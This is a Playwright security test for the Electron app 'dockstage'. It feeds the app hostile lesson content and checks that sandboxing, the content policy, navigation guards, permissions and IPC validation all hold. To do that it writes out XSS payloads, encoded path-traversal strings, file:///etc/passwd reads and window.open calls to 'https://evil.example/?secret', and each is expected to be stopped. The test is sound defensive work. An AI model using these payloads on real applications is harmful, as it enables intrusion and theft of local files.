import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { ElectronApplication } from '@playwright/test'
import { callChannels } from '../../src/shared/ipc.ts'
import type { Result } from '../../src/shared/result.ts'
import { expect, test } from './app.ts'

/** What an attacker who runs scripts in the page would find; docs/electron-security.md names each step. */

const attack = `
id: attack
language: en
title: A lesson from somebody
summary: It is hostile.
steps:
  - id: first
    title: First
    say: |
      [Docker's manual](https://docs.docker.com/reference/), [plain](http://plain.example/), [hidden](https://user@hidden.example/),
      [script](javascript:alert(1)), [file](file:///etc/passwd).

      <img src="x" onerror="window.attacked = true"><script>window.attacked = true</script><webview src="https://evil.example/"></webview>
`
test.use({ ownFile: attack })

interface Watched {
  readonly stayed: string[]
  readonly outside: string[]
}

/** Writes down, in main, which navigations were stopped, and what was opened outside (and opens none of it). */
const watch = (electron: ElectronApplication): Promise<void> =>
  electron.evaluate(({ app, BrowserWindow, shell }) => {
    const watched: { stayed: string[]; outside: string[] } = { stayed: [], outside: [] }
    Object.assign(globalThis, { watched })
    const look = (page: Electron.WebContents): void => {
      page.on('will-navigate', (event) => {
        if (event.defaultPrevented) watched.stayed.push(event.url)
      })
    }
    for (const window of BrowserWindow.getAllWindows()) look(window.webContents)
    app.on('web-contents-created', (_, page) => look(page))
    shell.openExternal = async (url) => {
      watched.outside.push(url)
    }
  })
const watched = (electron: ElectronApplication): Promise<Watched> =>
  electron.evaluate(() => (globalThis as unknown as { watched: Watched }).watched)

/** A server on this machine that counts who comes, by any way. */
async function counting(): Promise<{ readonly server: Server; readonly address: string; readonly came: string[] }> {
  const came: string[] = []
  const server = createServer((request, answer) => {
    came.push(`${request.method} ${request.url}`)
    answer.setHeader('access-control-allow-origin', '*').end('came')
  })
  server.on('upgrade', (request, socket) => {
    came.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { server, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, came }
}

test('a script in the page finds nothing of Node or Electron, reaches no other place, and main takes its word for nothing', async ({
  app,
  hosted,
}) => {
  test.setTimeout(120_000)
  const { page } = app
  const { electron } = hosted
  if (!electron) throw new Error('this is about the desktop')
  await expect(page.getByRole('heading', { level: 1, name: 'A lesson from somebody' })).toBeVisible()
  await watch(electron)
  const { server, address, came } = await counting()
  try {
    await test.step('each window has the preferences that it was to have', async () => {
      const all = await electron.evaluate(({ BrowserWindow }) =>
        BrowserWindow.getAllWindows().map(({ webContents }) => {
          const it = webContents as Electron.WebContents & { getLastWebPreferences(): Electron.WebPreferences }
          const guards = ['will-navigate', 'will-frame-navigate', 'will-redirect', 'will-attach-webview'] as const
          return { preferences: it.getLastWebPreferences(), unguarded: guards.filter((event) => webContents.listenerCount(event) === 0) }
        }),
      )
      expect(all).toHaveLength(1)
      const [own] = all
      expect(own?.preferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        webSecurity: true,
        nodeIntegration: false,
        nodeIntegrationInWorker: false,
        nodeIntegrationInSubFrames: false,
        webviewTag: false,
        allowRunningInsecureContent: false,
        experimentalFeatures: false,
      })
      expect(own?.preferences.enableBlinkFeatures ?? '').toBe('')
      expect(own?.unguarded).toEqual([])
    })

    await test.step('the page has the calls of the contract, and nothing of Node or Electron', async () => {
      const found = await page.evaluate(async () => {
        const names = [
          'require',
          'process',
          'module',
          'exports',
          'Buffer',
          'global',
          '__dirname',
          'electron',
          'ipcRenderer',
          'setImmediate',
        ]
        const { dockstage } = window
        if (!dockstage) throw new Error('the preload has not run')
        const heard = new Promise<unknown[]>((resolve) => {
          dockstage.on('preferences', (...heard: unknown[]) => resolve(heard))
        })
        await dockstage.api.setPreferences({ language: 'en', theme: 'dark' })
        const refused = (event: string): boolean => {
          try {
            dockstage.on(event as 'run', () => {})
            return false
          } catch {
            return true
          }
        }
        return {
          names: names.filter((name) => name in window),
          bridge: Object.keys(dockstage).sort(),
          calls: Object.keys(dockstage.api).sort(),
          heard: await heard,
          refused: ['ELECTRON_BROWSER_REQUIRE', 'event:run', 'constructor', '__proto__'].filter(refused),
          changed: Reflect.set(dockstage.api, 'readState', () => 'mine') || Reflect.set(window, 'dockstage', {}),
          webview: 'getWebContentsId' in document.createElement('webview'),
        }
      })
      expect(found).toEqual({
        names: [],
        bridge: ['api', 'host', 'on'],
        calls: Object.keys(callChannels).sort(),
        heard: [{ language: 'en', theme: 'dark' }],
        refused: ['ELECTRON_BROWSER_REQUIRE', 'event:run', 'constructor', '__proto__'],
        changed: false,
        webview: false,
      })
    })

    await test.step('the policy stops inline scripts, styles and handlers, and code from text', async () => {
      const outcome = await page.evaluate(async () => {
        const stopped: string[] = []
        const stop = (event: SecurityPolicyViolationEvent): number => stopped.push(event.effectiveDirective)
        document.addEventListener('securitypolicyviolation', stop)
        const script = document.createElement('script')
        script.textContent = 'window.attacked = true'
        const style = document.createElement('style')
        style.textContent = 'body { outline: 7px solid red }'
        const image = document.createElement('img')
        image.setAttribute('onerror', 'window.attacked = true')
        image.src = 'data:image/png;base64,none'
        const failed = new Promise((resolve) => image.addEventListener('error', resolve))
        document.body.append(script, style, image)
        document.body.setAttribute('style', 'outline: 7px solid red')
        const nameOf = (run: () => unknown): string => {
          try {
            run()
            return 'ran'
          } catch (cause) {
            return (cause as Error).name
          }
        }
        // In a turn of the page's own: what DevTools evaluates may evaluate.
        const thrown = await new Promise((resolve) =>
          // biome-ignore lint/security/noGlobalEval: that it does not run is what is held
          setTimeout(() => resolve([() => globalThis.eval('1'), () => new Function('return 1')()].map(nameOf))),
        )
        await failed
        const { outlineWidth, outlineStyle } = getComputedStyle(document.body)
        for (const it of [script, style, image]) it.remove()
        document.removeEventListener('securitypolicyviolation', stop)
        return {
          stopped: [...new Set(stopped)].filter((it) => it !== 'script-src').sort(),
          thrown,
          outlined: outlineStyle === 'solid' && outlineWidth === '7px',
          attacked: 'attacked' in window,
        }
      })
      expect(outcome).toEqual({
        stopped: ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
        thrown: ['EvalError', 'EvalError'],
        outlined: false,
        attacked: false,
      })
    })

    await test.step('the text of a lesson is text: no script, picture or page of it is there', async () => {
      await page.keyboard.press('ArrowRight')
      await expect(app.narration.getByRole('link')).toHaveText(["Docker's manual"])
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
      await expect(page.locator('webview, iframe, object, embed, .narration img')).toHaveCount(0)
    })

    await test.step('nothing is asked of another server, by any means that a page has', async () => {
      // The server does count: this is how it would show.
      await fetch(`${address}/control`)
      expect(came).toEqual(['GET /control'])
      const ways = await page.evaluate(async (to) => {
        const settled = (it: Promise<unknown>): Promise<string> =>
          it.then(
            () => 'went',
            () => 'stopped',
          )
        const element = (name: string, set: Record<string, string>): Promise<unknown> =>
          new Promise((resolve, reject) => {
            const it = document.createElement(name)
            for (const [key, value] of Object.entries(set)) it.setAttribute(key, value)
            it.addEventListener('load', resolve)
            it.addEventListener('error', reject)
            document.body.append(it)
          })
        const socket = (): Promise<unknown> =>
          new Promise((resolve, reject) => {
            const it = new WebSocket(`${to.replace('http', 'ws')}/socket`)
            it.onopen = resolve
            it.onerror = reject
          })
        const beacon = async (): Promise<void> => void navigator.sendBeacon(`${to}/beacon`, 'x')
        const worker = (): Promise<unknown> =>
          new Promise((resolve, reject) => {
            const it = new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker')`])))
            it.onmessage = resolve
            it.onerror = reject
          })
        const outcome = {
          fetch: await settled(fetch(`${to}/fetch`, { mode: 'no-cors' })),
          image: await settled(element('img', { src: `${to}/image` })),
          script: await settled(element('script', { src: `${to}/script` })),
          style: await settled(element('link', { rel: 'stylesheet', href: `${to}/style` })),
          socket: await settled(socket()),
          worker: await settled(worker().catch(Promise.reject.bind(Promise))),
          file: await settled(fetch('file:///etc/passwd')),
        }
        await settled(beacon())
        for (const [name, set] of [
          ['iframe', { src: `${to}/frame` }],
          ['object', { data: `${to}/object` }],
          ['embed', { src: `${to}/embed` }],
          ['link', { rel: 'prefetch', href: `${to}/prefetch` }],
          ['video', { src: `${to}/video`, autoplay: '' }],
        ] as const)
          void element(name, set).catch(() => {})
        return outcome
      }, address)
      expect(new Set(Object.values(ways))).toEqual(new Set(['stopped']))
    })

    await test.step('no way leads out of the page’s folder, and no other host of its scheme is there', async () => {
      const bodies = await page.evaluate(
        (ways) =>
          Promise.all(
            ways.map((way) =>
              fetch(way).then(
                async (it) => `${it.status} ${await it.text()}`,
                () => 'stopped',
              ),
            ),
          ),
        [
          '../../package.json',
          '%2e%2e/%2e%2e/package.json',
          '..%2f..%2fpackage.json',
          '..%5c..%5cpackage.json',
          '%252e%252e%252f%252e%252e%252fpackage.json',
          'assets/..%2f..%2f..%2fpackage.json',
          '%2fetc%2fpasswd',
          'package.json',
          'app://evil/index.html',
          'app://dockstage.evil/index.html',
        ],
      )
      for (const body of bodies) expect(['404 Not found', 'stopped']).toContain(body)
    })

    await test.step('the page stays where it is, opens no window, and hands the system only a link of the lesson', async () => {
      const before = page.url()
      await page.evaluate(() => Object.assign(window, { same: true }))
      const targets = [`${address}/location`, `${address}/form`, `${address}/anchor`]
      for (const target of targets) {
        await page.evaluate((to) => {
          if (to.endsWith('/location')) return window.location.assign(to)
          const anchor = document.createElement('a')
          anchor.href = to
          document.body.append(anchor)
          anchor.click()
          anchor.remove()
        }, target)
        await expect.poll(async () => (await watched(electron)).stayed).toContain(target)
      }
      const opened = await page.evaluate(
        (urls) => urls.map((url) => window.open(url)?.closed ?? true),
        [`${address}/window`, 'https://evil.example/?secret', 'file:///etc/passwd', 'app://dockstage/index.html', 'about:blank'],
      )
      expect(opened).toHaveLength(5)
      await expect.poll(() => electron.windows().length).toBe(1)
      expect((await watched(electron)).outside).toEqual([])
      const link = app.narration.getByRole('link')
      await link.click()
      await link.click({ modifiers: ['ControlOrMeta'] })
      await expect.poll(async () => (await watched(electron)).outside).toEqual(Array(2).fill('https://docs.docker.com/reference/'))
      expect(page.url()).toBe(before)
      expect(await page.evaluate(() => 'same' in window)).toBe(true)
    })

    await test.step('camera, location, notifications, screen, clipboard and devices are denied', async () => {
      const outcome = await page.evaluate(async () => {
        const settled = (it: Promise<unknown>): Promise<string> =>
          it.then(
            () => 'given',
            () => 'denied',
          )
        const states = ['geolocation', 'camera', 'microphone', 'notifications', 'midi', 'clipboard-read']
        const media = navigator.mediaDevices
        return {
          states: await Promise.all(
            states.map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state),
          ),
          camera: await settled(media.getUserMedia({ video: true })),
          screen: await settled(media.getDisplayMedia({ video: true })),
          location: await settled(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
          notification: await Notification.requestPermission(),
          clipboard: await settled(navigator.clipboard.readText()),
        }
      })
      expect(outcome).toEqual({
        states: Array(6).fill('denied'),
        camera: 'denied',
        screen: 'denied',
        location: 'denied',
        notification: 'denied',
        clipboard: 'denied',
      })
    })

    await test.step('a message that is not as the contract has it is refused as a value, and the app lives on', async () => {
      const codes = await page.evaluate(async () => {
        const api = window.dockstage?.api
        if (!api) throw new Error('the page has no way to main')
        let deep: unknown = []
        for (let depth = 0; depth < 500; depth += 1) deep = [deep]
        const messages: [string, unknown[]][] = [
          ['readState', ['one too many']],
          ['openScenario', []],
          ['openScenario', [{ id: 'attack', path: '/etc/passwd' }]],
          ['openScenario', [{ id: '../../../etc/passwd\0' }]],
          ['openScenario', [deep]],
          ['runTyped', [{}, []]],
          ['runTyped', ['x'.repeat(20_000), []]],
          ['runTyped', ['docker ps', ['constructor']]],
          ['answer', ['first', -1]],
          ['inspect', ['secret', 'x']],
          ['setPreferences', [{ language: 'xx', theme: 'dark' }]],
          ['openExternal', ['file:///etc/passwd']],
          ['openExternal', ['https://evil.example/?secret']],
          ['present', [{}]],
        ]
        // What is sent is not as the contract has it, and so it is sent past the contract's types.
        const send = (name: string, args: unknown[]): Promise<Result<unknown>> => Reflect.apply(Reflect.get(api, name), api, args)
        const answers = await Promise.all(messages.map(([name, args]) => send(name, args)))
        return answers.map((it) => (it.ok ? undefined : it.failure.code))
      })
      const other: Record<number, string> = { 3: 'not-found', 12: 'bad-usage' }
      expect(codes).toEqual(codes.map((_, index) => other[index] ?? 'bad-message'))
      expect((await watched(electron)).outside).toHaveLength(2)
    })

    await test.step('the hall’s window may read, and drive nothing', async () => {
      const hall = await hosted.opened(async () => {
        await page.evaluate(() => window.dockstage?.api.openHall(false))
      })
      await expect(hall.locator('#root')).not.toBeEmpty()
      const answers = await hall.evaluate(async () => {
        const api = window.dockstage?.api
        if (!api) throw new Error('the preload has not run')
        const driven = [api.runStep(), api.cleanUp(), api.pickScenarioFile(), api.openExternal('https://docs.docker.com/reference/')]
        window.open('https://docs.docker.com/reference/')
        const { ok } = await api.readState()
        return { reads: ok, driven: (await Promise.all(driven)).map((it) => (it.ok ? 'done' : it.failure.code)) }
      })
      expect(answers).toEqual({ reads: true, driven: Array(4).fill('view-only') })
      expect((await watched(electron)).outside).toHaveLength(2)
      const gone = hall.waitForEvent('close')
      await page.evaluate(() => window.dockstage?.api.present(null))
      await gone
    })

    await test.step('a window that is none of the app’s is answered nothing, and is led nowhere', async () => {
      const preload = join(process.cwd(), 'out/preload/index.cjs')
      const stranger = await hosted.opened(() =>
        electron.evaluate(({ BrowserWindow }, path) => {
          const window = new BrowserWindow({ webPreferences: { preload: path, sandbox: true, contextIsolation: true } })
          void window.loadURL('app://dockstage/index.html')
        }, preload),
      )
      await stranger.waitForFunction(() => 'dockstage' in window)
      const answer = await stranger.evaluate(() => window.dockstage?.api.readState())
      expect(answer).toMatchObject({ ok: false, failure: { code: 'untrusted-sender' } })
      // The page's policy has no say in where main leads a window: the session has.
      const led = await electron.evaluate(
        async ({ BrowserWindow }, urls) => {
          const window = BrowserWindow.getAllWindows().find(
            (it) => it.webContents.getURL() === 'app://dockstage/index.html' && it.getBounds().width === 800,
          )
          if (!window) throw new Error('the window is not there')
          const outcome: string[] = []
          for (const url of urls)
            outcome.push(
              await window.loadURL(url).then(
                () => 'went',
                () => 'stopped',
              ),
            )
          window.destroy()
          return outcome
        },
        [`${address}/led`, 'file:///etc/hostname'],
      )
      expect(led).toEqual(['stopped', 'stopped'])
    })

    expect(came).toEqual(['GET /control'])
    const state = await page.evaluate(() => window.dockstage?.api.readState())
    expect(state?.ok).toBe(true)
  } finally {
    server.close()
  }
})
